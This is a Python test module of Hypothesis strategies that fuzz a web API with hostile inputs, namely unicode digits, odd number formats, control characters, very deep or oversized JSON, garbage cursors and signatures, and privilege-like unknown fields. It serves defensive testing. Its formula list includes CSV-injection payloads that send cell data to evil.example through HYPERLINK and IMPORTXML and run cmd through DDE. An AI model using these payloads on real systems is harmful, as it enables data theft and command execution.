"""Hypothesis strategies for the kinds of hostile input that found real bugs (issue 11), and the JSON
encoder that can put what `json.dumps` cannot write (a 10,000-deep array, `1E-999999999`, a 3 MB string)
inside an otherwise ordinary body.

Each kind has a label (the constants below); `kinds_of()` finds the labels in a request after the fact,
so a failure is reported with the kinds of input that were in it, whoever generated them.
"""

from __future__ import annotations

import base64
import copy
import json
import re
import unicodedata
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode

from hypothesis import strategies as st

UNICODE_DIGITS = "unicode-digits"  # full-width, Arabic-Indic, Devanagari, superscript, circled...
NUMBER_FORMS = "number-forms"  # ASCII numbers spelled as Python or a spreadsheet reads them, not as the API does
CONTROL = "control-chars"  # NUL, C0/C1 controls, lone surrogates, bidi and line separators
DEEP = "deep-nesting"
OVERSIZE = "oversize-body"
FORMULA = "formula"
CURSOR = "garbage-cursor"
SIGNATURE = "garbage-signature"
UNKNOWN_FIELD = "unknown-field"

DEPTH = 10_000
# Django refuses a body over DATA_UPLOAD_MAX_MEMORY_SIZE (2.5 MiB by default); this is over it.
OVERSIZE_BYTES = 3 * 1024 * 1024

# --- numbers ---------------------------------------------------------------------------------------------
_DIGIT_SETS = [
    "０１２３４５６７８９",  # full-width
    "٠١٢٣٤٥٦٧٨٩",  # Arabic-Indic
    "۰۱۲۳۴۵۶۷۸۹",  # Extended Arabic-Indic (Persian)
    "०१२३४५६७८९",  # Devanagari
    "⁰¹²³⁴⁵⁶⁷⁸⁹",  # superscript: isdigit() but int() refuses
    "₀₁₂₃₄₅₆₇₈₉",  # subscript, likewise
    "①②③④⑤⑥⑦⑧⑨",  # circled
]
NON_ASCII_DIGITS = "".join(_DIGIT_SETS)
UNICODE_NUMBER_EXAMPLES = [
    "１２",
    "٢٦",
    "²",
    "１２.００",
    "1²",
    "٣.٥٠",
    "20٢٦",
    "１３７００００１１１１",  # a phone number, full-width
    "١٣٧٠٠٠٠١١١١",
]
NUMBER_FORM_EXAMPLES = [
    "1e3",
    "1E3",
    "1_000.00",
    "1_000",
    "+12.00",
    " 12.00",
    "12.00 ",
    "\t12",
    "0x1F",
    "1,000.00",
    "12.",
    ".50",
    "-0",
    "-0.00",
    "00012.00",
    "1.005",
    "12.3.4",
    "NaN",
    "Infinity",
    "-Infinity",
    "1E-999999999",
    "9" * 5000,  # past Python's 4,300-digit limit for int(str)
    "-" + "9" * 40 + ".99",
]
# Spliced into JSON as numbers, not strings: what `json.dumps` of a float cannot write.
RAW_JSON_NUMBERS = [
    "1E-999999999",
    "1E+999999999",
    "1e400",
    "-1e400",
    "5e-324",
    "123456789012345678901234567890",
    "-0",
    "0.1e1",
    "1.0000000000000000000000001",
    "12.345",
    "1e3",
    "1" + "0" * 5000,
]


@st.composite
def unicode_digit_numbers(draw) -> str:
    """Decimal strings in which at least one digit is not 0-9 (`"１２"`, `"٢٦"`, `"1²"`, `"20٢٦-12"`)."""
    digits = st.sampled_from("0123456789" + NON_ASCII_DIGITS)
    whole = draw(st.lists(digits, min_size=1, max_size=12))
    frac = draw(st.one_of(st.just([]), st.lists(digits, min_size=1, max_size=2)))
    foreign = draw(st.sampled_from(NON_ASCII_DIGITS))
    whole[draw(st.integers(0, len(whole) - 1))] = foreign
    number = "".join(whole) + ("." + "".join(frac) if frac else "")
    shape = draw(st.sampled_from(["plain", "negative", "month", "date"]))
    if shape == "negative":
        return "-" + number
    if shape == "month":
        return f"{number[:4]}-{draw(st.sampled_from(['12', '１２', '٠١', '1²']))}"
    if shape == "date":
        return f"{number[:4]}-01-0{draw(st.sampled_from(['1', '١', '１']))}T00:00:00Z"
    return number


def unicode_numbers() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(UNICODE_NUMBER_EXAMPLES), unicode_digit_numbers())


def number_forms() -> st.SearchStrategy[str]:
    return st.sampled_from(NUMBER_FORM_EXAMPLES)


# --- NUL, controls and other odd characters ----------------------------------------------------------------
_CONTROL_EXAMPLES = ["\x00", "a\x00b", "\x01\x02\x1f", "\x7f", "\x85", "\x9f", "\u2028", "\u2029", "\ufeff", "\u202e"]


def control_strings(*, surrogates: bool = True) -> st.SearchStrategy[str]:
    """Text with NUL, C0/C1 controls, format characters (bidi overrides, BOM), line separators and, in a
    JSON body only, lone surrogates (a URL or a header cannot carry one)."""
    categories = ["Cc", "Cf", "Zl", "Zp"] + (["Cs"] if surrogates else [])
    odd = st.characters(categories=categories)
    plain = st.text(st.characters(codec="ascii", categories=["L", "N"]), max_size=6)
    mixed = st.builds(lambda a, c, b: a + "".join(c) + b, plain, st.lists(odd, min_size=1, max_size=4), plain)
    examples = _CONTROL_EXAMPLES + (["\ud800", "a\udfffb"] if surrogates else [])
    return st.one_of(st.sampled_from(examples), mixed)


# --- spreadsheet formulas (CSV injection) -------------------------------------------------------------------
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
FORMULA_EXAMPLES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+2",
    "=1+2",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C notepad'!'A1'",
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
]


def formula_strings() -> st.SearchStrategy[str]:
    tail = st.text(st.characters(codec="ascii", min_codepoint=32, max_codepoint=126), min_size=1, max_size=20)
    return st.one_of(
        st.sampled_from(FORMULA_EXAMPLES), st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_PREFIXES), tail)
    )


def is_formula(text: str) -> bool:
    """A cell a spreadsheet would run: starts with a formula character and is not a plain number."""
    return text.startswith(FORMULA_PREFIXES) and not re.fullmatch(r"-?\d+(\.\d+)?", text)


# --- raw JSON: deep nesting, oversize bodies, numbers json.dumps cannot write ---------------------------------
@dataclass(frozen=True)
class RawJson:
    """JSON text put verbatim where this object stands in a body (see `dumps`)."""

    text: str
    kind: str

    def __repr__(self) -> str:
        shown = self.text if len(self.text) <= 40 else f"{self.text[:20]}…{self.text[-10:]} ({len(self.text):,} chars)"
        return f"RawJson({self.kind}: {shown})"


DEEP_VALUES = [
    RawJson("[" * DEPTH + "]" * DEPTH, DEEP),
    RawJson('{"a":' * DEPTH + "0" + "}" * DEPTH, DEEP),
    RawJson('[{"a":' * (DEPTH // 2) + "0" + "}]" * (DEPTH // 2), DEEP),
]
OVERSIZE_VALUES = [
    RawJson('"' + "a" * OVERSIZE_BYTES + '"', OVERSIZE),
    RawJson("[" + "0," * (OVERSIZE_BYTES // 2) + "0]", OVERSIZE),
]


def deep_json() -> st.SearchStrategy[RawJson]:
    return st.sampled_from(DEEP_VALUES)


def oversize_json() -> st.SearchStrategy[RawJson]:
    return st.sampled_from(OVERSIZE_VALUES)


def raw_json_numbers() -> st.SearchStrategy[RawJson]:
    return st.sampled_from([RawJson(text, NUMBER_FORMS) for text in RAW_JSON_NUMBERS])


def dumps(value: Any) -> bytes:
    """`json.dumps`, except that each RawJson inside `value` is written as its text (and, as schemathesis
    does, a bytes body goes as it is and bytes inside a body as text)."""
    if isinstance(value, bytes):
        return value
    raws: list[str] = []

    def swap(item):
        if isinstance(item, bytes):
            return item.decode("latin-1")
        if isinstance(item, RawJson):
            raws.append(item.text)
            return f"\ue000raw{len(raws) - 1}\ue000"
        if isinstance(item, dict):
            return {key: swap(v) for key, v in item.items()}
        if isinstance(item, list | tuple):
            return [swap(v) for v in item]
        return item

    text = json.dumps(swap(value))
    for i, raw in enumerate(raws):
        text = text.replace(json.dumps(f"\ue000raw{i}\ue000"), raw, 1)
    return text.encode()


# --- cursors and webhook signatures -------------------------------------------------------------------------
def _b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


CURSOR_EXAMPLES = [
    "cD1hYmM=",  # p=abc
    _b64("p=²"),
    _b64("p=１２"),
    _b64("p=\x00"),
    _b64("o=-1"),
    _b64("o=99999999999999999999999"),
    _b64("o=abc&r=1&p=1"),
    _b64("r=x"),
    _b64("p=" + "9" * 2000),
    _b64("p=2026-13-45T99:99:99"),
    "!!!",
    "cD0",
    "====",
    "%00",
]


def garbage_cursors() -> st.SearchStrategy[str]:
    """What a tampering client sends as `cursor`: base64 of junk, of DRF's `o`/`r`/`p` fields with hostile
    values, or not base64 at all."""
    field_values = st.one_of(st.text(max_size=8), unicode_numbers(), number_forms())
    fields = st.dictionaries(st.sampled_from("oprx"), field_values, min_size=1, max_size=3)
    return st.one_of(
        st.sampled_from(CURSOR_EXAMPLES),
        st.binary(max_size=32).map(_b64),
        fields.map(lambda d: _b64(urlencode(d))),
    )


def header_text(value: str) -> str:
    """`value` as a header can carry it: no control characters but tab and no leading white space (a
    client cannot send them, or a server refuses them before the application), anything outside Latin-1
    as its UTF-8 bytes, read one byte a character (what a WSGI server hands the application for raw UTF-8
    bytes, so `\xb2` stays the one byte 0xB2)."""
    value = "".join(ch for ch in value if ch == "\t" or not (ch < " " or ch == "\x7f")).lstrip()
    try:
        value.encode("latin-1")
    except UnicodeEncodeError:
        value = value.encode("utf-8", "surrogatepass").decode("latin-1")
    return value


SIGNATURE_EXAMPLES = [
    "t=\xb2",
    "t=\xb2,v1=00",
    "t=",
    "v1=",
    "v1=" + "0" * 64,
    "t=1",
    ",",
    "=",
    "",
    "t=1e3,v1=ab",
    "t=-1,v1=ab",
    "t=+1700000000,v1=ab",
    "t=99999999999999999999999999,v1=ab",
    "t=" + "9" * 5000 + ",v1=ab",
    "t=1,v1=" + "zz" * 32,
    "t=1,t=2,v1=ab",
    "t=１２３,v1=ab",
    "t=١٧٠٠٠٠٠٠٠٠,v1=ab",
    "\xff\xfe",
    "t=\x01,v1=\x7f",
]


def garbage_signatures() -> st.SearchStrategy[str]:
    """Malformed `X-Distribution-Signature` headers (the good form is `t=<unix seconds>,v1=<hex>`)."""
    value = st.one_of(unicode_numbers(), number_forms(), st.text(max_size=10))
    part = st.builds(lambda key, v: key + v, st.sampled_from(["t=", "v1=", "v0=", "t", ""]), value)
    built = st.lists(part, min_size=1, max_size=3).map(",".join)
    return st.one_of(st.sampled_from(SIGNATURE_EXAMPLES), built).map(header_text)


# --- unknown fields -----------------------------------------------------------------------------------------
UNKNOWN_KEYS = ["evil", "merchant", "merchant_id", "is_superuser", "__proto__", "id"]


# --- all of them ----------------------------------------------------------------------------------------------
def hostile_text(*, in_url: bool = False) -> st.SearchStrategy[str]:
    """Any hostile string: odd numbers, controls, formulas. For a URL: no lone surrogates, and short
    enough that the request line stays under a server's limit (gunicorn's is 4094 bytes)."""
    text = st.one_of(unicode_numbers(), number_forms(), control_strings(surrogates=not in_url), formula_strings())
    return text.filter(lambda t: len(t) <= 1000) if in_url else text


def hostile_json_values() -> st.SearchStrategy[Any]:
    """Any hostile value for a place in a JSON body."""
    return st.one_of(
        hostile_text(),
        raw_json_numbers(),
        deep_json(),
        oversize_json(),
        st.integers(min_value=2**63),
        st.integers(max_value=-(2**63) - 1),
    )


def _nodes(value: Any, path: tuple = ()) -> list[tuple[tuple, Any]]:
    found = [(path, value)]
    if isinstance(value, dict):
        for key, item in value.items():
            found += _nodes(item, (*path, key))
    elif isinstance(value, list):
        for i, item in enumerate(value):
            found += _nodes(item, (*path, i))
    return found


def replaced(value: Any, path: tuple, new: Any) -> Any:
    if not path:
        return new
    value = copy.copy(value)
    value[path[0]] = replaced(value[path[0]], path[1:], new)
    return value


@st.composite
def mutated_json(draw, body: Any) -> Any:
    """`body` with one place made hostile: a value replaced by a hostile one (the whole body included,
    so a body can be 10,000 deep or 3 MB), or an unknown field added to an object at any depth."""
    path, node = draw(st.sampled_from(_nodes(body)))
    if isinstance(node, dict) and draw(st.booleans()):
        key = draw(st.sampled_from([k for k in UNKNOWN_KEYS if k not in node] or ["evil-2"]))
        return replaced(body, path, {**node, key: draw(st.one_of(st.just(1), st.text(max_size=5)))})
    return replaced(body, path, draw(hostile_json_values()))


# --- which kinds a request holds (for reports) ---------------------------------------------------------------
_NUMBER_FORM = re.compile(r"\s*[-+]?(\d[\d_,]*)?\.?\d*([eE][-+]?\d+)?\s*|0x[0-9a-fA-F]+|NaN|-?Infinity")


def text_kinds(text: str) -> set[str]:
    kinds = set()
    if any(ch in NON_ASCII_DIGITS or (ch.isdigit() and not ch.isascii()) for ch in text):
        kinds.add(UNICODE_DIGITS)
    if any(unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp") for ch in text):
        kinds.add(CONTROL)
    if is_formula(text) and not _NUMBER_FORM.fullmatch(text):
        kinds.add(FORMULA)
    if (
        text
        and not re.fullmatch(r"-?\d+(\.\d{1,2})?", text)
        and _NUMBER_FORM.fullmatch(text)
        and any(c.isdigit() or c in "NI" for c in text)
    ):
        kinds.add(NUMBER_FORMS)
    if len(text) > OVERSIZE_BYTES // 2:
        kinds.add(OVERSIZE)
    return kinds


def value_kinds(value: Any) -> set[str]:
    if isinstance(value, RawJson):
        return {value.kind}
    if isinstance(value, str):
        return text_kinds(value)
    if isinstance(value, bool) or value is None:
        return set()
    if isinstance(value, int):
        return {NUMBER_FORMS} if abs(value) >= 2**63 else set()
    kinds: set[str] = set()
    if isinstance(value, dict):
        for key, item in value.items():
            kinds |= text_kinds(str(key)) | value_kinds(item)
    elif isinstance(value, list | tuple):
        for item in value:
            kinds |= value_kinds(item)
    return kinds
